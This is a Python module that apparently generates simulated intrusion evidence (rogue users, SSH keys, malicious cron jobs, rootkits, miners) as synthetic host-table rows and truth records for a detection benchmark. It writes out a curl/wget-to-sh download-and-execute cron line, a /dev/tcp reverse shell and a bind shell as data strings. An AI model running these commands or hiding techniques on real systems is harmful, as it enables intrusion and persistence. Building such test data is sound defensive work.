"""Attacker artifacts, one function per entry of ``attack_catalogue.json``.

``choose_params`` draws an artifact's parameters once per campaign (every host of a campaign gets
the same user name, key, C2 address...); ``apply`` writes the rows onto one host and returns the
evidence in the truth format: ``[{query, kind, match}]`` where ``match`` holds the columns that
identify the row (never pids, times or other per-host values).
"""

from __future__ import annotations

import base64
import random
from collections.abc import Callable
from typing import Any

from .base_units import rule
from .host import Host, digest, hexid

Evidence = dict[str, Any]
Params = dict[str, Any]

C2_NETS = ["203.0.113", "198.51.100", "192.0.2"]  # documentation ranges (RFC 5737)


def ev(query: str, kind: str, **match: str) -> Evidence:
    return {"query": query, "kind": kind, "match": dict(match)}


def ssh_key(rng: random.Random) -> str:
    blob = b"\x00\x00\x00\x07ssh-rsa\x00\x00\x00\x03\x01\x00\x01\x00\x00\x01\x81" + bytes(
        rng.randrange(256) for _ in range(385)
    )
    return base64.b64encode(blob).decode()


def choose_params(kind: str, rng: random.Random, fleet: dict[str, Any]) -> Params:
    c2 = f"{rng.choice(C2_NETS)}.{rng.randrange(2, 254)}"
    port = rng.choice([443, 4444, 8443, 1337, 31337, 5555, 6667, 9001])
    name = rng.choice(
        [
            "sysupdate",
            "dbus-helper",
            "kthreadd2",
            "netmon",
            "apt-check",
            "systemd-journal-flush",
            "snapd-refresh",
            "cloud-sync",
        ]
    )
    return {
        "uid0_user": lambda: {"username": rng.choice(["toor", "sysadm", "backupadm", "mysql2"])},
        "local_account": lambda: {
            "username": rng.choice(["evil_user", "support", "deploy2", "svc-backup"]),
            "uid": str(rng.randrange(990, 996)),
        },
        "authorized_key": lambda: {
            "user": rng.choice(["root", "ubuntu"]),
            "key": ssh_key(rng),
            "comment": rng.choice(["root@kali", "x@x", "", "admin"]),
        },
        "cron_download_exec": lambda: {
            "url": f"http://{c2}/{rng.choice(['cr.sh', 'i.sh', 'x'])}",
            "sched": rng.choice(["*/10 * * * *", "* * * * *", "@reboot"]),
            "user": rng.choice(["root", "appsvc"]),
        },
        "systemd_service": lambda: {
            "unit": f"{name}.service",
            "exe": rng.choice([f"/usr/local/bin/{name}", f"/var/tmp/.{name}", f"/opt/.cache/{name}"]),
            "c2": c2,
            "port": port,
        },
        "ld_preload": lambda: {
            "lib": rng.choice(
                [
                    "/usr/local/lib/libprocesshider.so",
                    "/lib/x86_64-linux-gnu/libsystemd-shim.so",
                    "/tmp/T1574006.so",
                ]
            )
        },
        "setuid_shell": lambda: {
            "path": rng.choice(
                [
                    "/tmp/.ICE-unix/.x",
                    "/tmp/evilBinary",
                    "/usr/local/bin/dbus-launch-helper",
                    "/tmp/.font-unix/sh",
                ]
            )
        },
        "sudoers_rule": lambda: rng.choice(
            [
                {"source": "/etc/sudoers.d/README~", "header": "appsvc", "rule": "ALL=(ALL) NOPASSWD:ALL"},
                {"source": "/etc/sudoers", "header": "Defaults", "rule": "!tty_tickets"},
                {"source": "/etc/sudoers.d/99-local", "header": "www-data", "rule": "ALL=(ALL) NOPASSWD:ALL"},
            ]
        ),
        "bind_shell": lambda: {
            "port": rng.choice([4444, 31337, 1337, 8081, 2222, 5555]),
            "exe": rng.choice(["/dev/shm/.x", "/tmp/.s", "/var/tmp/ncat"]),
        },
        "reverse_shell": lambda: {"c2": c2, "port": port},
        "kernel_module": lambda: {
            "module": rng.choice(["diamorphine", "T1547006", "ipt_sysmon", "nf_hook_helper"]),
            "size": rng.choice([16384, 20480, 24576]),
        },
        "firewall_ssh_opened": dict,
        "firewall_port_opened": lambda: {"port": rng.choice([4444, 31337, 1337, 8081, 2222])},
        "security_agent_stopped": lambda: {"agent": rng.choice(["auditd", "cwagent"])},
        "trojaned_binary": lambda: {"binary": rng.choice(["ps", "ls", "sshd", "ss"]), "salt": hexid(rng, 8)},
        "cryptominer": lambda: {"pool": f"{c2}:{rng.choice([3333, 4444, 5555, 14444])}"},
        "hosts_redirect": lambda: {
            "names": f"monitoring.{fleet['region']}.amazonaws.com logs.{fleet['region']}.amazonaws.com",
            "address": rng.choice(["127.0.0.1", "0.0.0.0"]),
        },
        "attacker_tools": lambda: {
            "packages": rng.sample(["nmap", "socat", "masscan", "netcat-traditional"], 2)
        },
        "hidden_process_mount": lambda: {"exe": "/var/tmp/.kworker"},
    }[kind]()


def uid0_user(host: Host, ctx: dict[str, Any], p: Params) -> list[Evidence]:
    host.rows("users").append(
        {
            "uid": "0",
            "gid": "0",
            "username": p["username"],
            "description": "",
            "directory": "/root",
            "shell": "/bin/bash",
        }
    )
    return [ev("users", "added", username=p["username"], uid="0")]


def local_account(host: Host, ctx: dict[str, Any], p: Params) -> list[Evidence]:
    host.rows("users").append(
        {
            "uid": p["uid"],
            "gid": "100",
            "username": p["username"],
            "description": "evil_account",
            "directory": f"/home/{p['username']}",
            "shell": "/bin/bash",
        }
    )
    return [ev("users", "added", username=p["username"], shell="/bin/bash")]


def authorized_key(host: Host, ctx: dict[str, Any], p: Params) -> list[Evidence]:
    uid, home = ("0", "/root") if p["user"] == "root" else ("1000", "/home/ubuntu")
    key_file = f"{home}/.ssh/authorized_keys"
    host.rows("authorized_keys").append(
        {
            "username": p["user"],
            "uid": uid,
            "algorithm": "ssh-rsa",
            "key": p["key"],
            "options": "",
            "comment": p["comment"],
            "key_file": key_file,
        }
    )
    return [ev("authorized_keys", "added", key=p["key"], key_file=key_file)]


def cron_download_exec(host: Host, ctx: dict[str, Any], p: Params) -> list[Evidence]:
    from .base_system import cron_row

    cmd = f"(curl -fsSL {p['url']} || wget -q -O- {p['url']}) | sh"
    path = f"/var/spool/cron/crontabs/{p['user']}"
    host.rows("crontab").append(cron_row(path, p["sched"], cmd))
    return [ev("crontab", "added", command=cmd, path=path)]


def systemd_service(host: Host, ctx: dict[str, Any], p: Params) -> list[Evidence]:
    from .base_units import unit_row

    host.rows("systemd_units").append(
        unit_row(
            p["unit"],
            "System update helper",
            "active",
            "running",
            fragment=f"/etc/systemd/system/{p['unit']}",
        )
    )
    name = p["exe"].rsplit("/", 1)[1]
    host.add_process(
        name,
        p["exe"],
        f"{p['exe']} --server {p['c2']}:{p['port']}",
        started=host.rng.randrange(3600, 40000),
        threads=(3, 6),
    )
    return [
        ev("systemd_units", "added", id=p["unit"]),
        ev("processes", "added", path=p["exe"], name=name[:15]),
    ]


def ld_preload(host: Host, ctx: dict[str, Any], p: Params) -> list[Evidence]:
    content = p["lib"] + "\n"
    host.rows("ld_preload").append(
        {
            "path": "/etc/ld.so.preload",
            "size": str(len(content)),
            "mtime": str(host.collected_epoch - host.rng.randrange(3600, 400000)),
            "sha256": digest("preload", content),
        }
    )
    return [ev("ld_preload", "added", path="/etc/ld.so.preload")]


def setuid_shell(host: Host, ctx: dict[str, Any], p: Params) -> list[Evidence]:
    host.rows("suid_bin").append(
        {"path": p["path"], "username": "root", "groupname": "root", "permissions": "S"}
    )
    return [ev("suid_bin", "added", path=p["path"], permissions="S")]


def sudoers_rule(host: Host, ctx: dict[str, Any], p: Params) -> list[Evidence]:
    host.rows("sudoers").append({"source": p["source"], "header": p["header"], "rule_details": p["rule"]})
    return [ev("sudoers", "added", source=p["source"], header=p["header"], rule_details=p["rule"])]


def bind_shell(host: Host, ctx: dict[str, Any], p: Params) -> list[Evidence]:
    name = p["exe"].rsplit("/", 1)[1]
    proc = host.add_process(
        name,
        p["exe"],
        f"{p['exe']} -lkp {p['port']} -e /bin/bash",
        uid=1001,
        gid=1001,
        cwd="/tmp",
        started=host.rng.randrange(600, 9000),
    )
    host.add_listener(proc, "6", "2", "0.0.0.0", p["port"])
    return [
        ev("listening_ports", "added", port=str(p["port"]), path=p["exe"]),
        ev("processes", "added", path=p["exe"], name=name[:15]),
    ]


def reverse_shell(host: Host, ctx: dict[str, Any], p: Params) -> list[Evidence]:
    """A shell spawned by the exploited Java app, connected back to the attacker."""
    cmd = f"bash -c bash -i >& /dev/tcp/{p['c2']}/{p['port']} 0>&1"
    up = host.collected_epoch - host.boot_epoch
    sh = host.add_process(
        "bash",
        "/usr/bin/bash",
        cmd,
        parent=ctx["procs"]["java"].pid,
        uid=1001,
        gid=1001,
        cwd="/opt/orders-api",
        started=up - 900,
    )
    host.add_process(
        "bash",
        "/usr/bin/bash",
        "bash -i",
        parent=sh.pid,
        uid=1001,
        gid=1001,
        cwd="/opt/orders-api",
        started=up - 899,
    )
    return [ev("processes", "added", cmdline=cmd)]


def kernel_module(host: Host, ctx: dict[str, Any], p: Params) -> list[Evidence]:
    addr = f"0xffffffffc{host.rng.randrange(0x1000000, 0x3FFFFFF):07x}"
    host.rows("kernel_modules").insert(
        0, {"name": p["module"], "size": str(p["size"]), "used_by": "-", "status": "Live", "address": addr}
    )
    return [ev("kernel_modules", "added", name=p["module"])]


def _rules(host: Host) -> list[dict[str, str]]:
    return host.rows("iptables")


def firewall_ssh_opened(host: Host, ctx: dict[str, Any], p: Params) -> list[Evidence]:
    """The VPC-only SSH rule is replaced by one that accepts SSH from anywhere."""
    rows = _rules(host)
    idx = next(i for i, r in enumerate(rows) if r["chain"] == "INPUT" and r["dst_port"] == "22:22")
    new = rule("filter", "INPUT", "DROP", "ACCEPT", proto="6", dport="22:22")
    new["packets"], new["bytes"] = rows[idx]["packets"], rows[idx]["bytes"]
    rows[idx] = new
    return [
        ev(
            "iptables",
            "missing",
            chain="INPUT",
            target="ACCEPT",
            dst_port="22:22",
            src_ip="10.0.0.0",
            src_mask="255.255.0.0",
        ),
        ev(
            "iptables",
            "added",
            chain="INPUT",
            target="ACCEPT",
            dst_port="22:22",
            src_ip="0.0.0.0",
            src_mask="0.0.0.0",
        ),
    ]


def firewall_port_opened(host: Host, ctx: dict[str, Any], p: Params) -> list[Evidence]:
    rows = _rules(host)
    dport = f"{p['port']}:{p['port']}"
    new = rule("filter", "INPUT", "DROP", "ACCEPT", proto="6", dport=dport)
    # Every INPUT row carries the chain policy's counters; the new rule shares them.
    new["packets"], new["bytes"] = rows[0]["packets"], rows[0]["bytes"]
    rows.insert(0, new)
    return [ev("iptables", "added", chain="INPUT", target="ACCEPT", dst_port=dport)]


def security_agent_stopped(host: Host, ctx: dict[str, Any], p: Params) -> list[Evidence]:
    from .noise import set_unit

    if p["agent"] == "auditd":
        unit, name, path = "auditd.service", "auditd", "/usr/sbin/auditd"
    else:
        unit, name = "amazon-cloudwatch-agent.service", "amazon-cloudwat"
        path = "/opt/aws/amazon-cloudwatch-agent/bin/amazon-cloudwatch-agent"
    gone = host.remove("processes", name=name, path=path)
    for row in gone:
        host.remove("listening_ports", pid=row["pid"])
    set_unit(host, unit, "inactive", "dead")
    return [
        ev("processes", "missing", name=name, path=path),
        ev("systemd_units", "changed", id=unit, active_state="inactive"),
    ]


def trojaned_binary(host: Host, ctx: dict[str, Any], p: Params) -> list[Evidence]:
    paths = {
        "ps": ["/bin/ps", "/usr/bin/ps"],
        "ls": ["/bin/ls", "/usr/bin/ls"],
        "sshd": ["/usr/sbin/sshd"],
        "ss": ["/usr/bin/ss"],
    }[p["binary"]]
    out = []
    new = digest("trojan", p["binary"], p["salt"])
    for r in host.rows("system_binaries"):
        if r["path"] in paths:
            r["sha256"] = new
            r["size"] = str(int(r["size"]) + 2136)
            out.append(ev("system_binaries", "changed", path=r["path"], sha256=new))
    return out


def cryptominer(host: Host, ctx: dict[str, Any], p: Params) -> list[Evidence]:
    """Kinsing-style: the dropper and the miner run from /tmp, the miner's file already deleted."""
    up = host.collected_epoch - host.boot_epoch
    k = host.add_process(
        "kinsing",
        "/tmp/kinsing",
        "/tmp/kinsing",
        uid=1001,
        gid=1001,
        cwd="/tmp",
        started=up - 20000,
        threads=(6, 9),
    )
    host.add_process(
        "kdevtmpfsi",
        "/tmp/kdevtmpfsi",
        f"/tmp/kdevtmpfsi -o {p['pool']}",
        parent=k.pid,
        uid=1001,
        gid=1001,
        cwd="/tmp",
        on_disk="0",
        state="R",
        started=up - 19990,
        threads=host.vcpus + 1,
        cpu_ms=(10**7, 10**8),
    )
    return [
        ev("processes", "added", name="kinsing", path="/tmp/kinsing"),
        ev("processes", "added", name="kdevtmpfsi", path="/tmp/kdevtmpfsi"),
    ]


def hosts_redirect(host: Host, ctx: dict[str, Any], p: Params) -> list[Evidence]:
    host.rows("etc_hosts").append({"address": p["address"], "hostnames": p["names"]})
    return [ev("etc_hosts", "added", address=p["address"], hostnames=p["names"])]


def attacker_tools(host: Host, ctx: dict[str, Any], p: Params) -> list[Evidence]:
    versions = {
        "nmap": "7.80+dfsg1-2ubuntu0.1",
        "socat": "1.7.3.3-2",
        "masscan": "2:1.0.5+ds1-1",
        "netcat-traditional": "1.10-41.1",
    }
    rows = host.rows("deb_packages")
    out = []
    for name in p["packages"]:
        rows.append(
            {
                "name": name,
                "version": versions[name],
                "arch": "amd64",
                "source": "",
                "status": "install ok installed",
            }
        )
        out.append(ev("deb_packages", "added", name=name))
    rows.sort(key=lambda r: r["name"])
    return out


def hidden_process_mount(host: Host, ctx: dict[str, Any], p: Params) -> list[Evidence]:
    """An empty directory bind-mounted over /proc/<pid> hides a process from ps and osquery."""
    pid = host.alloc_pid(host.rng.randrange(50, 500))
    host.rows("mounts").append(
        {
            "device": "/dev/root",
            "path": f"/proc/{pid}",
            "type": "ext4",
            "flags": "rw,relatime,discard,errors=remount-ro",
        }
    )
    return [ev("mounts", "added", path=f"/proc/{pid}", device="/dev/root")]


REGISTRY: dict[str, Callable[[Host, dict[str, Any], Params], list[Evidence]]] = {
    "uid0_user": uid0_user,
    "local_account": local_account,
    "authorized_key": authorized_key,
    "cron_download_exec": cron_download_exec,
    "systemd_service": systemd_service,
    "ld_preload": ld_preload,
    "setuid_shell": setuid_shell,
    "sudoers_rule": sudoers_rule,
    "bind_shell": bind_shell,
    "reverse_shell": reverse_shell,
    "kernel_module": kernel_module,
    "firewall_ssh_opened": firewall_ssh_opened,
    "firewall_port_opened": firewall_port_opened,
    "security_agent_stopped": security_agent_stopped,
    "trojaned_binary": trojaned_binary,
    "cryptominer": cryptominer,
    "hosts_redirect": hosts_redirect,
    "attacker_tools": attacker_tools,
    "hidden_process_mount": hidden_process_mount,
}
